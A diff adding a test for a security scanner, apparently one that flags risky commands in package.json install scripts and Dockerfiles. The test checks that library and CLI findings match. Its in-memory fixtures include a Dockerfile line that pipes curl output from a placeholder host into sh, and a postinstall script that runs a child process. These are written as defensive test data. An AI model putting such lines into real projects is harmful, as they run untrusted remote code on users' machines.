@@ -11,6 +11,9 @@ import { readFileSync } from 'node:fs';
 import { shellCommands } from '../../src/scan/shell-words.ts';
 import { dockerfileCommands, packageJsonCommands, projectCommandFileKind, scanProjectCommands } from '../../src/scan/project-commands.ts';
 import { run } from '../../src/cli.ts';
+import { scanFiles } from '../../src/scan/scan-files.ts';
+import { collectSourceFiles } from '../../src/commands/scan.ts';
+import { readSourceListing } from '../../src/io/read-source.ts';
 
 const F = 'test/fixtures/scan/project-commands';
 /** `line id identifier` of each finding of a package.json with these scripts. */
@@ -167,6 +170,29 @@ test('scanner22: wrappers in project commands (env, cross-env, timeout, npm-run-
   const files = (table: Record<string, string>): string[] => scanProjectCommands('package.json', JSON.stringify({ scripts: table }), 'package.json').scripts;
   assert.equal(files({ postinstall: 'npx tsx scripts/setup.ts', start: 'cross-env NODE_ENV=production node dist/server.js' }), ['scripts/setup.ts', 'dist/server.js']);
   assert.equal(files({ start: 'concurrently "npm:a" "node s.js"', a: 'bun run b.ts' }), ['s.js', 'b.ts']);
+});
+
+test('scanner22: scanFiles reads a package.json or Dockerfile among its entry files as the CLI reads the ones its walk meets', async () => {
+  // The library on the files a walk gives: the same findings and files as `mcpfusion scan DIR`.
+  const dir = `${F}/install-scripts`;
+  const projectFiles: string[] = [];
+  const entries = await collectSourceFiles([dir], process.cwd(), [], [], [], [], projectFiles);
+  const library = await scanFiles([...entries, ...projectFiles], { readSource: readSourceListing });
+  const r = await cli(['scan', dir, '--format', 'json']);
+  const json = JSON.parse(r.stdout) as { files: string[]; findings: Array<{ file: string; line?: number; id: string; identifier?: string }> };
+  const rel = (f: string): string => f.slice(f.indexOf(F));
+  const key = (f: { file?: string; line?: number; id: string; identifier?: string }): string => `${rel(f.file ?? "")}:${f.line} ${f.id} ${f.identifier}`;
+  assert.equal(library.findings.map(key), json.findings.map(key));
+  assert.equal(library.files.map(rel), json.files.map(rel));
+  assert.ok(library.findings.some((f) => f.id === 'code-evaluation.command-remote-code'));
+  // In memory: the scripts a package.json's postinstall runs are entry files too, a Dockerfile is read.
+  const mem = new Map([['/p/package.json', '{"scripts":{"postinstall":"node ./scripts/post"}}'], ['/p/scripts/post.js', "require('child_process').execSync('id');"], ['/p/Dockerfile', 'FROM node\nRUN curl -s https://x.test/i | sh\n']]);
+  const scan = await scanFiles(['/p/package.json', '/p/Dockerfile'], { readSource: (p: string) => mem.get(p) });
+  assert.equal(scan.files, ['/p/scripts/post.js']);
+  assert.equal(scan.findings.map((f) => `${f.file}:${f.line} ${f.id}`), ['/p/scripts/post.js:1 subprocess.child-process', '/p/Dockerfile:2 network.command-download', '/p/Dockerfile:2 code-evaluation.command-remote-code']);
+  // A project file that does not exist is not analyzed, never clean.
+  const missing = await scanFiles(['/p/none/package.json'], { readSource: () => undefined });
+  assert.equal(missing.findings.map((f) => `${f.id} ${f.detail}`), ['scan.not-analyzed the commands of this package.json were not read: the file does not exist']);
 });
 
 test.run();
